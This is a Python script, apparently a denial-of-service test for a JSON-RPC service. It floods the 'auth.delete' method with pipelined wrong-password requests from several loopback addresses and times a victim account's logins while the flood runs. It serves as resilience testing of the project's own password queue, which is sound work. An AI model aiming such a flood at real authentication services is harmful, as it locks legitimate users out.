"""Attack: auth.delete floods (wrong passwords, pipelined, from several signed-in
connections on each of several loopback addresses) against the password queue, while a
victim on another address logs in now and then: its login times are printed.
"""
import json, threading, time
import tb

ATTACK_ADDRS = ["127.0.0.%d" % i for i in range(20, 24)]
stop = threading.Event()
sent = {"n": 0, "codes": {}}


def flood(addr, k):
    c = tb.user("flood%d_%s" % (k, addr.replace(".", "_")), source=addr)
    line = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "auth.delete", "params": {"password": "wrong-Pass-1"}}) + "\n"
    c.s.settimeout(30)
    t0 = time.time()
    while not stop.is_set() and time.time() - t0 < 25:
        c.send_raw((line * 32).encode())
        for _ in range(32):
            try:
                msg = c.line()
            except Exception:
                return
            code = msg.get("error", {}).get("data", {}).get("code", "ok")
            sent["codes"][code] = sent["codes"].get(code, 0) + 1
            sent["n"] += 1


victim_name = "victim%d" % int(time.time())
tb.user(victim_name, source="127.0.0.9")
threads = [threading.Thread(target=flood, args=(a, k)) for a in ATTACK_ADDRS for k in range(3)]
for t in threads: t.start()
time.sleep(2)
times = []
for _ in range(8):
    c = tb.Conn(source="127.0.0.9")
    t0 = time.time()
    r = c.call("auth.login", {"username": victim_name, "password": "Pass-word-1"})
    times.append((round(time.time() - t0, 3), "ok" if "result" in r else r["error"]["data"]["code"]))
    time.sleep(1)
stop.set()
for t in threads: t.join(40)
print("victim logins (s, outcome):", times)
print("flood answers:", sent["n"], sent["codes"])
